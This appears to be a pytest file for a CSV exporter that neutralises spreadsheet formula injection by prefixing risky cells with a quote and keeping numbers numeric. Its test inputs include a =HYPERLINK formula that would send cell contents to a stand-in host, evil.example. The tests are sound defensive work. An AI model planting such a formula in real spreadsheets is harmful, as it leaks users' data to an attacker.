"""The CSV export keeps device text from running as a spreadsheet formula; numbers stay numbers."""

import csv
import io

import pytest

from infra.domain.csv_export import formula_safe, readings_csv

TS = "2026-01-01T00:00:00.000000000Z"


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", ["=1+1", "+1", "-5", "@SUM(A1)", "\t=1", "\r=1",
                                   '=HYPERLINK("https://evil.example/?"&A1,"x")'])
def test_text_that_starts_like_a_formula_gets_a_leading_quote(value):
    assert formula_safe(value) == "'" + value
    assert _cells(readings_csv([{"timestamp": TS, "value": value}], text=True))[1] == [TS, "'" + value]


@pytest.mark.parametrize("value", ["open", "", "5", "a=1", " =1", "'quoted", "ü=1"])
def test_other_text_is_kept_as_it_is(value):
    assert formula_safe(value) == value
    assert _cells(readings_csv([{"timestamp": TS, "value": value}], text=True))[1] == [TS, value]


def test_text_cells_are_quoted_whole_so_no_separator_can_split_a_formula_out():
    rendered = readings_csv([{"timestamp": TS, "value": 'a;=1+1,"b"\n=2'}], text=True)
    assert rendered.splitlines()[0] == "timestamp,value"
    assert rendered.split("\r\n", 1)[1] == f'"{TS}","a;=1+1,""b""\n=2"\r\n'


def test_numbers_are_numbers_even_when_negative():
    rendered = readings_csv([{"timestamp": TS, "value": -5}, {"timestamp": TS, "value": -0.5},
                             {"timestamp": TS, "value": True}], text=False)
    assert rendered.splitlines() == ["timestamp,value", f"{TS},-5", f"{TS},-0.5", f"{TS},True"]
